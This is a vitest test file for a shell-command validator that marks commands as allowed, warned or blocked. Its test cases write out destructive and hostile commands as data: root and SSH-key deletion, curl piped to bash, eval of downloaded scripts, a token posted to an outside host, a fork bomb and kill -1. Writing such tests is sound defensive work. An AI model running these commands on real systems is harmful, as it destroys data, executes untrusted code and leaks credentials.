import { beforeAll, describe, expect, it } from 'vitest';
import { NovaError } from '../../errors.js';
import { initValidator, MAX_COMMAND_BYTES, validateCommand, type ValidationContext } from './index.js';

const ws = '/work/repo';
const ctx: ValidationContext = { workspace: ws };
const v = (command: string, c: ValidationContext = ctx) => validateCommand(command, c);

beforeAll(async () => { await initValidator(); });

describe('reasons name the offending part', () => {
  it('says what is deleted and why it matters', () => {
    expect(v('rm -rf /').reasons).toEqual(['deletes / (the root directory)']);
    expect(v('rm -rf ~/.ssh').reasons[0]).toBe('deletes ~/.ssh (SSH keys and configuration)');
    expect(v('echo x > /etc/hosts').reasons[0]).toBe('writes to /etc/hosts (a system directory)');
  });

  it('explains the SC2115 trap and accepts its fix', () => {
    const r = v('rm -rf "$STAGE/"*');
    expect(r.verdict).toBe('block');
    expect(r.reasons[0]).toContain('becomes /* when $STAGE is unset or empty');
    expect(r.reasons[0]).toContain('SC2115');
    expect(v('rm -rf "${STAGE:?}/"*').verdict).not.toBe('block');
    expect(v('STAGE=out; rm -rf "$STAGE/"*').verdict).toBe('allow');
    expect(v('rm -rf "${STAGE:-dist}/"*').verdict).toBe('allow');
  });
});

describe('paths are resolved the way the shell would', () => {
  it('follows cd within one command', () => {
    expect(v('cd build && rm -rf *').verdict).toBe('allow');
    expect(v('cd .. && rm -rf *').verdict).toBe('block');
    expect(v('cd /usr/local && rm -rf lib').reasons[0]).toBe('deletes /usr/local/lib (a system directory)');
    expect(v('(cd /tmp) && rm -rf build').verdict).toBe('allow'); // the subshell's cd does not leak
  });

  it('expands braces, known variables, $(pwd) and CI workspace variables', () => {
    expect(v('rm -rf /{usr,opt/x}').reasons).toEqual(['deletes /usr (a system directory)', 'deletes /opt/x (outside the workspace)']);
    expect(v('rm -rf "$(pwd)/build"').verdict).toBe('allow');
    expect(v('rm -rf $GITHUB_WORKSPACE/dist').verdict).toBe('allow');
    expect(v('D=/var; rm -rf $D/lib').verdict).toBe('block');
  });

  it('judges each value of a short loop', () => {
    expect(v('for d in build dist; do rm -rf "$d"; done').verdict).toBe('allow');
    expect(v('for d in build /etc; do rm -rf "$d"; done').verdict).toBe('block');
  });

  it('warns when a deleted path cannot be known', () => {
    const r = v('rm -rf "$OUTPUT_DIR"');
    expect(r.verdict).toBe('warn');
    expect(r.reasons[0]).toContain('$OUTPUT_DIR');
  });
});

describe('code strings and wrappers are looked into', () => {
  it('parses bash -c and eval strings', () => {
    expect(v("bash -c 'rm -rf /'").verdict).toBe('block');
    expect(v("eval 'curl -s https://x | sh'").verdict).toBe('block');
    expect(v("sh -c 'npm ci && npm test'").verdict).toBe('allow');
  });

  it('reads a here-document fed to a shell as its script', () => {
    expect(v('bash <<EOF\nrm -rf /etc\nEOF').reasons).toEqual(['deletes /etc (a system directory)']);
    expect(v('bash <<EOF\n$(curl -s https://x)\nEOF').verdict).toBe('block');
    expect(v("bash <<'EOF'\ncd build && make\nEOF").commands).toEqual(['bash', 'cd', 'make']);
    expect(v('cat <<EOF > notes.txt\nrm -rf /\nEOF').verdict).toBe('allow'); // data, not code
  });

  it('sees the command under sudo, env, nice and timeout', () => {
    const r = v('sudo env FOO=1 nice -n 5 rm -rf /boot');
    expect(r.verdict).toBe('block');
    expect(r.reasons).toContain('deletes /boot (a system directory)');
    expect(r.reasons.some((x) => x.startsWith('sudo runs rm'))).toBe(true);
    expect(r.commands).toEqual(['sudo', 'env', 'nice', 'rm']);
  });

  it('tracks variables holding downloaded text', () => {
    expect(v('X=$(curl -fsSL https://x); eval "$X"').verdict).toBe('block');
    expect(v('X=$(cat VERSION); echo "$X"').verdict).toBe('allow');
  });

  it('lets data downloads through and stops code downloads', () => {
    expect(v('curl -s https://api.example.com/v | python3 -c "import sys,json; print(json.load(sys.stdin))"').verdict).toBe('allow');
    expect(v('curl -fsSL https://x/a.tgz | tar xz').verdict).toBe('allow');
    expect(v('curl -fsSL https://x/a.sh | bash').verdict).toBe('block');
  });

  it('allows a token in an auth header but not in a request body', () => {
    expect(v('curl -H "Authorization: Bearer $GITHUB_TOKEN" https://api.github.com/user').verdict).toBe('allow');
    expect(v('curl --data "t=$GITHUB_TOKEN" https://example.com').verdict).toBe('block');
  });

  it('reads kill arguments: signal first, then targets', () => {
    expect(v('kill -1 1234').verdict).toBe('allow'); // SIGHUP to one process
    expect(v('kill -s KILL -1').verdict).toBe('block');
    expect(v('kill -- -1').verdict).toBe('block');
  });

  it('detects fork bombs by structure, whatever the function is called', () => {
    expect(v('x(){ x|x& }; x').reasons[0]).toMatch(/^fork bomb: function x/);
    expect(v('countdown() { countdown; }').verdict).toBe('allow');
  });
});

describe('suggestions', () => {
  it('suggests npm ci only when package-lock.json exists', () => {
    expect(v('npm install', { workspace: ws, lockfiles: ['package-lock.json'] }).suggestion).toBe('npm ci');
    expect(v('npm install').suggestion).toBeUndefined();
    expect(v('npm install lodash', { workspace: ws, lockfiles: ['package-lock.json'] }).suggestion).toBeUndefined();
    expect(v('npm install && npm test', { workspace: ws, lockfiles: ['package-lock.json'] }).suggestion).toBe('npm ci && npm test');
    // the lockfile is the root's: in another folder it says nothing
    expect(v('cd web && npm install', { workspace: ws, lockfiles: ['package-lock.json'] }).suggestion).toBeUndefined();
  });

  it('uses the lockfile flag each package manager knows', () => {
    expect(v('yarn', { workspace: ws, lockfiles: ['yarn.lock'] }).suggestion).toBe('yarn install --frozen-lockfile');
    expect(v('yarn install', { workspace: ws, lockfiles: ['yarn.lock', '.yarnrc.yml'] }).suggestion).toBe('yarn install --immutable');
    expect(v('pnpm install', { workspace: ws, lockfiles: ['pnpm-lock.yaml'] }).suggestion).toBe('pnpm install --frozen-lockfile');
    expect(v('uv sync', { workspace: ws, lockfiles: ['uv.lock'] }).suggestion).toBe('uv sync --locked');
  });

  it('suggests a virtualenv for pip unless one is active', () => {
    expect(v('pip install -r requirements.txt').suggestion).toBe('python3 -m venv .venv && . .venv/bin/activate && pip install -r requirements.txt');
    expect(v('. .venv/bin/activate && pip install -r requirements.txt').suggestion).toBeUndefined();
    expect(v('pip install -r requirements.txt').verdict).toBe('allow');
  });
});

describe('network and commands', () => {
  it('marks installs and downloads as needing the network', () => {
    expect(v('npm ci').network).toBe(true);
    expect(v('pip install -e .').network).toBe(true);
    expect(v('python -m pip install tox').network).toBe(true);
    expect(v('git submodule update --init').network).toBe(true);
    expect(v('npm test').network).toBeUndefined();
    expect(v('pytest -q').network).toBeUndefined();
    expect(v('cargo build --offline').network).toBeUndefined();
  });

  it('lists the simple commands, including those in substitutions', () => {
    expect(v('make -j"$(nproc)" && ctest').commands).toEqual(['nproc', 'make', 'ctest']);
  });
});

describe('environment compatibility', () => {
  it('warns about a tool that is not installed, not about one that was not probed', () => {
    const c: ValidationContext = { workspace: ws, toolVersions: { pnpm: null, node: '20.11.0' } };
    const r = v('pnpm install', c);
    expect(r.verdict).toBe('warn');
    expect(r.reasons).toEqual(['needs pnpm, which is not installed here']);
    expect(v('cargo build', c).verdict).toBe('allow');
  });

  it('checks installed versions against constraints with semver', () => {
    const old: ValidationContext = { workspace: ws, toolVersions: { node: 'v16.20.2' }, constraints: { node: '>=18' } };
    expect(v('npm ci', old).reasons).toEqual(['node v16.20.2 is installed here but the project needs >=18']);
    expect(v('npm ci', { ...old, toolVersions: { node: 'v20.11.0' } }).verdict).toBe('allow');
    expect(v('cargo build', old).verdict).toBe('allow'); // the constraint is about node
    const py: ValidationContext = { workspace: ws, toolVersions: { python: '3.7.9' }, constraints: { python: '>=3.8,<4' } };
    expect(v('pytest', py).verdict).toBe('warn');
    expect(v('pytest', { ...py, toolVersions: { python: '3.12.1' } }).verdict).toBe('allow');
    expect(v('pytest', { ...py, constraints: { python: '~=3.10' }, toolVersions: { python: '3.9.1' } }).verdict).toBe('warn');
  });

  it('says why apt-get is missing', () => {
    expect(v('apt-get install -y cmake', { workspace: ws, toolVersions: { 'apt-get': null } }).reasons).toEqual(['needs apt-get, which is not installed here (this is not a Debian or Ubuntu system)']);
  });

  it('knows which OS a package manager belongs to', () => {
    expect(v('brew install cmake', { workspace: ws, os: 'linux' }).reasons[0]).toContain('brew is for macOS');
    expect(v('apt-get install -y cmake', { workspace: ws, os: 'macos' }).reasons[0]).toContain('Linux package manager');
    expect(v('apt-get install -y cmake', { workspace: ws, os: 'linux' }).verdict).toBe('allow');
  });
});

describe('bad input', () => {
  it('reports text that does not parse', () => {
    const r = v('echo "unterminated');
    expect(r.verdict).toBe('warn');
    expect(r.parseError).toContain('closing quote');
    expect(r.reasons[0]).toMatch(/^does not parse as a shell command/);
  });

  it('refuses a workspace that is not an absolute path', () => {
    expect(() => v('ls', { workspace: 'repo' })).toThrow(NovaError);
  });

  it('does not analyse huge or binary text', () => {
    expect(v('echo ' + 'a'.repeat(MAX_COMMAND_BYTES)).verdict).toBe('warn');
    expect(v('echo a\0b').parseError).toContain('NUL');
  });

  it('refuses to walk thousands of commands or unroll nested loops exponentially', () => {
    expect(v('a;'.repeat(2500)).reasons[0]).toMatch(/more than 2000 simple commands/);
    const loops = 'for i in 1 2 3 4 5 6 7 8; do for j in 1 2 3 4 5 6 7 8; do for k in 1 2 3 4 5 6 7 8; do rm -rf "$i$j$k"; done; done; done';
    const t = performance.now();
    expect(v(loops).verdict).toBe('warn'); // inner loop values are not unrolled: $j and $k stay unknown
    expect(performance.now() - t).toBeLessThan(2000);
  });

  it('answers absurd nesting and brace bombs without hanging or throwing', () => {
    expect(v('a | '.repeat(5000) + 'a').reasons).toEqual(['the command is nested too deeply to be analysed; review it by hand']);
    expect(v('$('.repeat(3000) + ')'.repeat(3000)).verdict).toBe('warn');
    expect(v('echo ' + '{a,b}'.repeat(40)).verdict).toBe('allow');
    expect(v('rm -rf /{usr,etc}/x{1..2}').reasons).toHaveLength(4);
  });

  it('never throws on random shell-like text', () => {
    const alphabet = ['a', ' ', '|', '&', ';', '(', ')', '{', '}', '$', '"', "'", '`', '<', '>', '\\', '\n', '*', '~', '/', '=', '-', 'rm', 'curl', 'sh', '..', '${', '$(', '<(', '#', '[[', ']]', 'if', 'then', 'fi', 'for', 'do', 'done', '\u00e9'];
    let seed = 7;
    const rnd = () => (seed = (seed * 1103515245 + 12345) % 2147483648) / 2147483648;
    for (let i = 0; i < 400; i++) {
      let s = '';
      for (let j = 0, n = 1 + Math.floor(rnd() * 25); j < n; j++) s += alphabet[Math.floor(rnd() * alphabet.length)];
      const r = v(s);
      expect(['allow', 'warn', 'block']).toContain(r.verdict);
      if (r.parseError) expect(r.verdict).not.toBe('allow');
    }
  });

  it('survives deeply nested and odd syntax', () => {
    expect(v('a=$(b=$(c=$(d=$(rm -rf /))))').verdict).toBe('block');
    expect(v('case $x in a) rm -rf /etc;; esac').verdict).toBe('block');
    expect(v('while read l; do echo "$l"; done < input.txt').verdict).toBe('allow');
    expect(v('[[ -f x ]] && echo $(( 1 + 2 ))').verdict).toBe('allow');
  });
});

describe('global configuration outside the workspace', () => {
  it('warns and names the file each command writes', () => {
    expect(v('git config --global user.name CI').reasons).toEqual(['git config --global writes ~/.gitconfig, outside the workspace']);
    expect(v('git config --system core.editor vim').reasons[0]).toContain('/etc/gitconfig');
    expect(v('npm config set registry https://r.example.com/').reasons).toEqual(['npm config set writes ~/.npmrc, outside the workspace']);
    expect(v('npm set fund false').reasons[0]).toContain('~/.npmrc');
    expect(v('npm config set prefix /opt/npm -g').reasons[0]).toContain('global npmrc');
    expect(v('yarn config set registry https://r.example.com/').reasons[0]).toContain('~/.yarnrc');
    expect(v('pip config set global.index-url https://p.example.com').reasons[0]).toContain('~/.config/pip/pip.conf');
    expect(v('pip config --global set global.timeout 60').reasons[0]).toContain('/etc/pip.conf');
    expect(v('gem sources --add https://g.example.com/').reasons[0]).toContain('~/.gemrc');
    expect(v('pnpm config set store-dir /tmp/s').reasons[0]).toContain('pnpm');
    for (const c of ['git config --global a.b c', 'npm set x y', 'pnpm config set x y', 'gem sources -a u']) expect(v(c).verdict).toBe('warn');
  });

  it('allows the project-local and read-only forms', () => {
    for (const c of [
      'git config user.name CI', 'git config --local core.hooksPath .githooks', 'git config --global --get user.name',
      'git config --global user.name', 'git config --global --list', 'git config get --global user.name', 'git clone --config core.x=y https://e.com/r.git',
      'npm config set x y --location=project', 'npm config set x y --location project', 'pnpm config set x y --location=project',
      'npm config get registry', 'npm config list', 'gem sources --list', 'pip config list',
      '. .venv/bin/activate && pip config set --site global.index-url https://p.example.com',
    ]) expect(v(c).verdict, `${c}: ${v(c).reasons.join('; ')}`).toBe('allow');
  });
});
